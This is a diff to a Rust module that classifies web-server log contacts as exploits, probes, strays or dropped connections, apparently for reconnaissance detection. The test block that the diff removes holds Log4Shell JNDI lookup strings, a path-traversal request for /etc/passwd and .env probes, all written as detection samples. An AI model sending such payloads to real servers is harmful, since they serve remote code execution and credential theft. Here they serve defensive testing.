@@ -11,6 +11,8 @@ use crate::lookup::Verdict;
 use crate::pool::Print;
 use crate::{catalogue, path_class, traversal};
 
+pub(crate) mod wire;
+
 /// Longest text of a contact that is kept, in bytes.
 pub(crate) const TEXT_BYTES_MAX: usize = 256;
 
@@ -27,12 +29,23 @@ pub(crate) enum Kind {
     Refused,
     /// 404 or 410.
     NotFound,
+    /// A host that is an address, or a name of no site that answers.
+    Stray,
+    /// A port at which nothing answers, or a firewall in its place.
+    Dropped,
 }
 
 impl Kind {
     /// Every kind, strongest first.
-    pub(crate) const ALL: [Self; 5] =
-        [Self::Exploit, Self::Attempt, Self::Probe, Self::Refused, Self::NotFound];
+    pub(crate) const ALL: [Self; 7] = [
+        Self::Exploit,
+        Self::Attempt,
+        Self::Probe,
+        Self::Refused,
+        Self::NotFound,
+        Self::Stray,
+        Self::Dropped,
+    ];
 }
 
 /// The class of a contact, final once all that is known was merged.
@@ -42,6 +55,8 @@ pub enum Class {
     Exploit,
     /// As [`Kind::Attempt`].
     Attempt,
+    /// A door of the catalogue that only somebody opens who uses a known flaw.
+    Flaw,
     /// As [`Kind::Probe`].
     Probe,
     /// Refused, from a source that is a stranger to the site.
@@ -54,6 +69,14 @@ pub enum Class {
     NotFoundWarm,
     /// A door of the catalogue that opens, day after day: its owner's.
     InUse,
+    /// As [`Kind::Stray`].
+    Stray,
+    /// Dropped at a port at which others are not, from a source that is a stranger to the site.
+    DroppedCold,
+    /// As [`Kind::Stray`], but the host answers others, or it was asked again on another day.
+    StrayKnown,
+    /// Dropped, but the source uses the site, or the port answers others.
+    DroppedWarm,
 }
 
 /// A contact that is made again after this long is no exploration, in seconds: a feed reader with
@@ -62,23 +85,30 @@ pub(crate) const AGAIN_S: Timestamp = 20 * 3_600;
 
 impl Class {
     /// Every class, strongest first.
-    pub(crate) const ALL: [Self; 8] = [
+    pub(crate) const ALL: [Self; 13] = [
         Self::Exploit,
         Self::Attempt,
+        Self::Flaw,
         Self::Probe,
         Self::RefusedCold,
         Self::NotFoundCold,
         Self::RefusedWarm,
         Self::NotFoundWarm,
         Self::InUse,
+        Self::Stray,
+        Self::DroppedCold,
+        Self::StrayKnown,
+        Self::DroppedWarm,
     ];
 
     /// What is left of it when it was made again on another day, `served` at some time or never.
     pub(crate) const fn again(self, served: bool) -> Self {
         match self {
-            Self::Probe if served => Self::InUse,
+            Self::Flaw | Self::Probe if served => Self::InUse,
             Self::RefusedCold => Self::RefusedWarm,
             Self::NotFoundCold => Self::NotFoundWarm,
+            Self::Stray => Self::StrayKnown,
+            Self::DroppedCold => Self::DroppedWarm,
             class => class,
         }
     }
@@ -88,13 +118,24 @@ impl Class {
         match self {
             Self::RefusedCold => Self::RefusedWarm,
             Self::NotFoundCold => Self::NotFoundWarm,
+            Self::DroppedCold => Self::DroppedWarm,
             class => class,
         }
     }
 
     /// Nobody makes such a contact by following a link.
     pub(crate) const fn is_strong(self) -> bool {
-        matches!(self, Self::Exploit | Self::Attempt | Self::Probe)
+        matches!(self, Self::Exploit | Self::Attempt | Self::Flaw | Self::Probe)
+    }
+
+    /// A door of the catalogue.
+    pub(crate) const fn is_door(self) -> bool {
+        matches!(self, Self::Flaw | Self::Probe)
+    }
+
+    /// A page that a stranger did not get.
+    pub(crate) const fn is_page(self) -> bool {
+        matches!(self, Self::RefusedCold | Self::NotFoundCold)
     }
 
     /// The stable name used in documents.
@@ -102,18 +143,30 @@ impl Class {
         match self {
             Self::Exploit => "exploit",
             Self::Attempt => "attempt",
+            Self::Flaw => "flaw",
             Self::Probe => "probe",
             Self::RefusedCold => "refused-cold",
             Self::NotFoundCold => "not-found-cold",
             Self::RefusedWarm => "refused-warm",
             Self::NotFoundWarm => "not-found-warm",
             Self::InUse => "in-use",
+            Self::Stray => "stray-host",
+            Self::DroppedCold => "dropped-cold",
+            Self::StrayKnown => "stray-host-known",
+            Self::DroppedWarm => "dropped-warm",
         }
     }
 
     /// Evidence for reconnaissance at all.
     pub(crate) const fn counts(self) -> bool {
-        !matches!(self, Self::RefusedWarm | Self::NotFoundWarm | Self::InUse)
+        !matches!(
+            self,
+            Self::RefusedWarm
+                | Self::NotFoundWarm
+                | Self::InUse
+                | Self::StrayKnown
+                | Self::DroppedWarm
+        )
     }
 
     /// From what an event told and whether the source is at home there.
@@ -126,6 +179,10 @@ impl Class {
             (Kind::Refused, true) => Self::RefusedWarm,
             (Kind::NotFound, false) => Self::NotFoundCold,
             (Kind::NotFound, true) => Self::NotFoundWarm,
+            (Kind::Stray, false) => Self::Stray,
+            (Kind::Stray, true) => Self::StrayKnown,
+            (Kind::Dropped, false) => Self::DroppedCold,
+            (Kind::Dropped, true) => Self::DroppedWarm,
         }
     }
 }
@@ -154,7 +211,7 @@ impl Visit {
     /// From the first to the last contact that a window could hold of it.
     pub(crate) const fn contacts(self) -> RangeInclusive<ContactKey> {
         let first = ContactKey { visit: self, kind: Kind::Exploit, door: 0 };
-        RangeInclusive::new(first, ContactKey { visit: self, kind: Kind::NotFound, door: u64::MAX })
+        RangeInclusive::new(first, ContactKey { visit: self, kind: Kind::Dropped, door: u64::MAX })
     }
 
     /// The mark of "this path is served here".
@@ -246,6 +303,8 @@ impl Facts {
 pub(crate) enum Observed {
     /// Served to an ordinary visitor; the hash of the path class.
     Ordinary(u64),
+    /// A host or a port that answers; its hash.
+    Open(u64),
     /// A contact, and one more when a payload came through a door of the catalogue.
     Contact(Knock, Option<Knock>),
     /// Nothing that counts.
@@ -285,6 +344,12 @@ pub(crate) fn observe(event: &Event<'_>) -> Observed {
         }
     };
     if let Some(knock) = knock {
+        return Observed::Contact(knock, None);
+    }
+    if wire::is_connection(event) {
+        return wire::connection(event);
+    }
+    if let Some(knock) = wire::stray(event) {
         return Observed::Contact(knock, None);
     }
     let kind = match answer(event.status) {
@@ -346,82 +411,4 @@ pub(crate) fn cut(text: &str) -> String {
 }
 
 #[cfg(test)]
-mod tests {
-    use relight_model::Escape;
-
-    use super::*;
-
-    fn event(path: &'static str, status: u16) -> Event<'static> {
-        Event {
-            site: Some(SiteId(1)),
-            host: "www.example.test",
-            method: "GET",
-            path,
-            status,
-            escape: Escape::Apache,
-            ..Event::bare(OrgId(1), 0, IpAddr::from([192, 0, 2, 1]))
-        }
-    }
-
-    fn kind(event: &Event<'_>) -> Option<Kind> {
-        match observe(event) {
-            Observed::Contact(knock, _) => Some(knock.kind),
-            Observed::Ordinary(_) | Observed::Neither => None,
-        }
-    }
-
-    #[test]
-    fn the_first_class_that_holds() {
-        for (path, status, expected) in [
-            ("/${jndi:ldap://x/a}", 200, Some(Kind::Exploit)),
-            ("/$${jndi:ldap://x/a}", 200, Some(Kind::Attempt)),
-            ("/${jndi:java:comp/x}", 200, None),
-            ("/.env", 200, Some(Kind::Probe)),
-            ("/a/%2e%2e/%2e%2e/etc/passwd", 404, Some(Kind::Attempt)),
-            ("/%2eenv", 404, Some(Kind::Probe)),
-            ("/a", 403, Some(Kind::Refused)),
-            ("/a", 404, Some(Kind::NotFound)),
-            ("/a", 410, Some(Kind::NotFound)),
-            ("/robots.txt", 404, None),
-            ("/a", 200, None),
-            ("/a", 500, None),
-        ] {
-            assert_eq!(kind(&event(path, status)), expected, "{path} {status}");
-        }
-    }
-
-    /// A payload that comes through a door of the catalogue is both.
-    #[test]
-    fn a_payload_through_a_door_is_both() {
-        let query = "x=${jndi:ldap://c.example/a}";
-        for (path, door) in [("/solr/admin/cores", true), ("/nowhere", false)] {
-            let observed = observe(&Event { query, ..event(path, 200) });
-            let Observed::Contact(first, second) = observed else { panic!("{observed:?}") };
-            assert_eq!((first.kind, first.text.as_str()), (Kind::Exploit, "ldap://c.example/a"));
-            assert_eq!(second.map(|it| it.kind), door.then_some(Kind::Probe), "{path}");
-        }
-    }
-
-    #[test]
-    fn referers_inside_the_site() {
-        let with = |referer| is_in_site("www.example.test", referer);
-        assert!(with("https://www.example.test/page") && with("http://WWW.example.test:8080/"));
-        assert!(!with("https://other.test/www.example.test") && !with("") && !with("http://"));
-        assert!(!is_in_site("", "http:///a"));
-    }
-
-    #[test]
-    fn an_ipv6_scanner_is_one_subject() {
-        let one: IpAddr = "2001:db8:1:2::1".parse().unwrap();
-        let other: IpAddr = "2001:db8:1:2:ffff::9".parse().unwrap();
-        assert_eq!(subject(one), subject(other));
-        assert_ne!(subject(one), subject("2001:db8:1:3::1".parse().unwrap()));
-        let mapped: IpAddr = "::ffff:192.0.2.1".parse().unwrap();
-        assert_eq!(subject(mapped), IpAddr::from([192, 0, 2, 1]));
-    }
-
-    #[test]
-    fn text_is_cut() {
-        assert_eq!(cut(&"a".repeat(TEXT_BYTES_MAX + 1)).len(), TEXT_BYTES_MAX);
-    }
-}
+mod tests;
